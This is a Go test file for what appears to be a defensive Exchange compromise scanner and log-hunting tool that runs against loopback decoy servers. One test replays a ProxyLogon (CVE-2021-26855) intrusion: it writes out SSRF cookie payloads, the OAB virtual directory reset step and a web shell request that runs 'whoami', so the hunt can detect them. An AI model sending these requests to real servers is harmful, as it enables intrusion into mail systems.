package cli

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/exhunt/exhunt/internal/decoy"
)

// Every scan in these tests is confined to loopback by --scope.
const testScope = "127.0.0.0/8"

// decoyFleet serves n decoys on loopback, cycling builds and states, and
// returns their URLs.
func decoyFleet(t *testing.T, n int, cfg decoy.Config, shells ...decoy.Shell) ([]string, *decoy.Server) {
	t.Helper()
	data, err := loadScanData()
	if err != nil {
		t.Fatal(err)
	}
	srv, err := decoy.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Close() })
	rels := data.Builds.Releases()
	var urls []string
	for i := range n {
		p, err := decoy.NewProfile(data.Builds, rels[(i*7)%len(rels)].Build.String(), decoy.States()[i%3], decoy.Reveals()[i%3], fmt.Sprintf("EXCH%03d", i+1))
		if err != nil {
			t.Fatal(err)
		}
		p.Shells = shells
		tg, err := srv.Listen("https", "127.0.0.1:0", p)
		if err != nil {
			t.Fatal(err)
		}
		urls = append(urls, tg.URL)
	}
	srv.Serve()
	return urls, srv
}

// TestScanHelperProcess runs the CLI when started by a test as a child
// process (so the parent can kill it); otherwise it does nothing.
func TestScanHelperProcess(t *testing.T) {
	args := os.Getenv("EXHUNT_HELPER_ARGS")
	if args == "" {
		t.Skip("helper process only")
	}
	os.Exit(Run(context.Background(), strings.Split(args, "\x1f"), strings.NewReader(""), os.Stdout, os.Stderr))
}

// normalised reads a results file into lines sorted by seq, without the
// fields that differ between runs (timestamps, durations).
func normalised(t *testing.T, path string) []string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	type keyed struct {
		seq  uint64
		line string
	}
	var rows []keyed
	seen := map[uint64]bool{}
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		var m map[string]any
		if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
			t.Fatalf("%s: bad line %q: %v", path, sc.Text(), err)
		}
		delete(m, "time")
		delete(m, "duration_ms")
		b, _ := json.Marshal(m)
		seq := uint64(m["seq"].(float64))
		if seen[seq] {
			t.Errorf("%s: seq %d twice", path, seq)
		}
		seen[seq] = true
		rows = append(rows, keyed{seq, string(b)})
	}
	sort.Slice(rows, func(i, j int) bool { return rows[i].seq < rows[j].seq })
	out := make([]string, len(rows))
	for i, r := range rows {
		out[i] = r.line
	}
	return out
}

// TestScanResumeAfterKill kills a scan midway (SIGKILL, so it cannot tidy
// up), resumes it, and compares the results with an uninterrupted scan.
func TestScanResumeAfterKill(t *testing.T) {
	urls, _ := decoyFleet(t, 120, decoy.Config{})
	dir := t.TempDir()
	targets := filepath.Join(dir, "targets.txt")
	lines := []string{"# fleet"}
	for i, u := range urls {
		lines = append(lines, u)
		if i == 40 {
			lines = append(lines, "bad host!", "192.0.2.1") // invalid, out of scope
		}
	}
	os.WriteFile(targets, []byte(strings.Join(lines, "\n")+"\n"), 0o644)
	common := []string{"scan", "--scope", testScope, "--host-rate", "0", "--backoff", "10ms", "-i", targets}

	full := filepath.Join(dir, "full.jsonl")
	if code, _, errs := exh(t, append(common, "--concurrency", "8", "-o", full)...); code != ExitFindings {
		t.Fatalf("uninterrupted scan: exit %d: %s", code, errs)
	}

	part := filepath.Join(dir, "part.jsonl")
	// Paced so the kill lands midway: about 120 targets * 5 requests.
	args := append(common, "--concurrency", "4", "--rate", "150", "-o", part)
	cmd := exec.Command(os.Args[0], "-test.run=^TestScanHelperProcess$")
	cmd.Env = append(os.Environ(), "EXHUNT_HELPER_ARGS="+strings.Join(args, "\x1f"))
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(60 * time.Second)
	for {
		data, _ := os.ReadFile(part)
		if bytes.Count(data, []byte("\n")) >= 30 {
			break
		}
		if time.Now().After(deadline) {
			cmd.Process.Kill()
			t.Fatal("the scan wrote fewer than 30 results in 60 s")
		}
		time.Sleep(5 * time.Millisecond)
	}
	cmd.Process.Kill()
	cmd.Wait()
	before := normalised(t, part)
	if len(before) >= len(urls) {
		t.Fatalf("the scan finished before it was killed (%d results)", len(before))
	}
	// A line cut by the kill, as when it lands mid-write.
	f, _ := os.OpenFile(part, os.O_APPEND|os.O_WRONLY, 0)
	f.WriteString(`{"seq":77,"target":"https://127.0.0.1:1","sta`)
	f.Close()

	code, _, errs := exh(t, append(common, "--concurrency", "8", "--resume", "-o", part)...)
	if code != ExitFindings {
		t.Fatalf("resumed scan: exit %d: %s", code, errs)
	}
	if !strings.Contains(errs, fmt.Sprintf("resuming: %d target(s) already done", len(before))) {
		t.Errorf("resume message: %q", errs)
	}
	a, b := normalised(t, full), normalised(t, part)
	if len(a) != len(urls)+2 {
		t.Errorf("uninterrupted scan: %d results for %d lines", len(a), len(urls)+2)
	}
	if strings.Join(a, "\n") != strings.Join(b, "\n") {
		for i := range min(len(a), len(b)) {
			if a[i] != b[i] {
				t.Errorf("first difference:\n full %s\n part %s", a[i], b[i])
				break
			}
		}
		t.Fatalf("resumed results differ: %d vs %d lines", len(a), len(b))
	}

	// Resuming a complete scan scans nothing; a changed input is refused.
	if code, _, errs := exh(t, append(common, "--resume", "-o", part)...); code != ExitFindings || !strings.Contains(errs, fmt.Sprintf("%d target(s) already done", len(urls)+2)) {
		t.Errorf("resume of a finished scan: %d %q", code, errs)
	}
	os.WriteFile(targets, []byte("127.0.0.1:1\n"+strings.Join(lines, "\n")), 0o644)
	if code, _, errs := exh(t, append(common, "--resume", "-o", part)...); code != ExitError || !strings.Contains(errs, "input changed") {
		t.Errorf("resume with another input: %d %q", code, errs)
	}
}

// TestScanCLI: the decoy command serves, the scan command reads it; usage
// errors and the scope guard.
func TestScanAndDecoyCLI(t *testing.T) {
	dir := t.TempDir()
	man := filepath.Join(dir, "listeners.jsonl")
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan int)
	var derr bytes.Buffer
	go func() {
		done <- Run(ctx, []string{"decoy", "--listen", "https://127.0.0.1:0", "--listen", "http://127.0.0.1:0",
			"--build", "15.2.721.2", "--shell", "/owa/auth/shel.aspx", "--manifest", man}, strings.NewReader(""), &bytes.Buffer{}, &derr)
	}()
	var listeners []decoy.Description
	for deadline := time.Now().Add(10 * time.Second); ; {
		if data, err := os.ReadFile(man); err == nil {
			for _, l := range strings.Split(strings.TrimSpace(string(data)), "\n") {
				var d decoy.Description
				json.Unmarshal([]byte(l), &d)
				listeners = append(listeners, d)
			}
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("decoy did not start: %s", derr.String())
		}
		time.Sleep(10 * time.Millisecond)
	}
	if len(listeners) != 2 || listeners[0].ServedBuild != "15.2.721.2" || !strings.HasPrefix(listeners[1].URL, "http://") {
		t.Fatalf("manifest %+v", listeners)
	}
	code, out, errs := exh(t, "scan", "--scope", testScope, "--host-rate", "0", "--webshells", "--format", "text", listeners[0].URL, listeners[1].URL)
	if code != ExitFindings {
		t.Fatalf("scan: exit %d\n%s\n%s", code, out, errs)
	}
	for _, want := range []string{"15.2.721.2", "Exchange 2019 CU7", "1 web shell(s): /owa/auth/shel.aspx", "2 target(s): 2 exchange"} {
		if !strings.Contains(out, want) {
			t.Errorf("text output lacks %q:\n%s", want, out)
		}
	}
	// Each target is listed once: the summary does not repeat the rows.
	for _, l := range listeners {
		if n := strings.Count(out, l.URL+" "); n != 1 {
			t.Errorf("%s listed %d times:\n%s", l.URL, n, out)
		}
	}
	cancel()
	if c := <-done; c != ExitClean {
		t.Errorf("decoy exit %d: %s", c, derr.String())
	}

	// Outside the scope nothing is sent: an address is refused before
	// dialling, a name once resolved (localhost is 127.0.0.1 and ::1).
	code, out, _ = exh(t, "scan", "--scope", "127.0.0.2/32", "192.0.2.1", "localhost:1")
	if code != ExitClean || strings.Count(out, `"status":"out-of-scope"`) != 2 {
		t.Errorf("out of scope: exit %d %s", code, out)
	}
	// Large ranges want --yes; usage errors exit 2.
	if code, _, errs := exh(t, "scan", "--scope", testScope, "127.0.0.0/8"); code != ExitUsage || !strings.Contains(errs, "--yes") {
		t.Errorf("large range without --yes: %d %q", code, errs)
	}
	for _, args := range [][]string{{"scan"}, {"scan", "--resume", "127.0.0.1"}, {"scan", "--scope", "nonsense", "127.0.0.1"}, {"scan", "--format", "xml", "127.0.0.1"}, {"decoy", "--state", "rotten"}, {"decoy", "--listen", "ftp://127.0.0.1:1"}} {
		if code, _, _ := exh(t, args...); code != ExitUsage {
			t.Errorf("%v: exit %d, want %d", args, code, ExitUsage)
		}
	}
}

// TestDecoyHuntReplay replays a ProxyLogon intrusion against a vulnerable
// decoy and hunts the logs it wrote: the hunt must find the chain.
func TestDecoyHuntReplay(t *testing.T) {
	logs := t.TempDir()
	var events bytes.Buffer
	data, err := loadScanData()
	if err != nil {
		t.Fatal(err)
	}
	srv, err := decoy.New(decoy.Config{LogDir: logs, Events: &events})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	p, err := decoy.NewProfile(data.Builds, "15.1.2176.2", decoy.StateVulnerable, decoy.RevealAll, "EXCH01")
	if err != nil {
		t.Fatal(err)
	}
	p.Shells = []decoy.Shell{{Path: "/owa/auth/errorPage.aspx", Kind: decoy.ShellOAB}}
	tg, err := srv.Listen("https", "127.0.0.1:0", p)
	if err != nil {
		t.Fatal(err)
	}
	srv.Serve()
	c := &httpClient{t: t, base: tg.URL}
	fqdn := p.FQDN()
	// A scanner's probe, then the exploit's steps through the SSRF.
	c.do("GET", "/owa/auth/x.js", "X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3; X-BEResource=localhost/owa/auth/logon.aspx?~3;")
	c.do("POST", "/ecp/oCb.js", "X-BEResource=a]@"+fqdn+":444/autodiscover/autodiscover.xml?#~1941962753")
	c.do("POST", "/ecp/oCb.js", "X-BEResource=Administrator@"+fqdn+":444/mapi/emsmdb?MailboxId=f26bc937-b7b3-4402-b890-96c46713e5d5@contoso.local&a=~1941962753")
	if st := c.do("POST", "/ecp/oCb.js", "X-BEResource=Administrator@"+fqdn+":444/ecp/proxyLogon.ecp?#~1941962753"); st != 241 {
		t.Fatalf("proxyLogon.ecp through the SSRF: %d, want 241", st)
	}
	c.do("POST", "/ecp/oCb.js", "X-BEResource=Administrator@"+fqdn+":444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=x#~1941962753")
	c.do("POST", "/owa/auth/errorPage.aspx?code=Response.Write(new+ActiveXObject(\"WScript.Shell\").exec(\"whoami\"))", "")
	srv.Close()

	code, out, errs := exh(t, "hunt", "--format", "json", logs)
	if code != ExitFindings {
		t.Fatalf("hunt: exit %d: %s", code, errs)
	}
	var res struct {
		Servers []struct {
			Name     string `json:"name"`
			Verdict  string `json:"verdict"`
			Findings []struct {
				Rule  string `json:"rule"`
				Stage string `json:"stage"`
			} `json:"findings"`
		} `json:"servers"`
	}
	if err := json.Unmarshal([]byte(out), &res); err != nil {
		t.Fatal(err)
	}
	if len(res.Servers) != 1 || res.Servers[0].Verdict != "exploited" {
		t.Fatalf("hunt of the decoy's logs: %+v", res.Servers)
	}
	stages := map[string]bool{}
	for _, f := range res.Servers[0].Findings {
		stages[f.Rule+" "+f.Stage] = true
	}
	for _, want := range []string{"cve-2021-26855-ssrf reconnaissance", "cve-2021-26855-ssrf exploitation", "cve-2021-26855-ssrf persistence", "webshell-known-path execution"} {
		if !stages[want] {
			t.Errorf("no %q finding in %v", want, stages)
		}
	}
	if n := strings.Count(events.String(), "\n"); n != 6 {
		t.Errorf("%d events for 6 classified requests:\n%s", n, events.String())
	}
}

// httpClient sends requests as an attacker's script would.
type httpClient struct {
	t    *testing.T
	base string
}

func (c *httpClient) do(method, path, cookie string) int {
	c.t.Helper()
	req, err := http.NewRequest(method, c.base+path, nil)
	if err != nil {
		c.t.Fatal(err)
	}
	req.Header.Set("User-Agent", "python-requests/2.25.1")
	if cookie != "" {
		req.Header.Set("Cookie", cookie)
	}
	cl := &http.Client{
		Transport:     &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}},
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
		Timeout:       5 * time.Second,
	}
	resp, err := cl.Do(req)
	if err != nil {
		c.t.Fatal(err)
	}
	resp.Body.Close()
	return resp.StatusCode
}
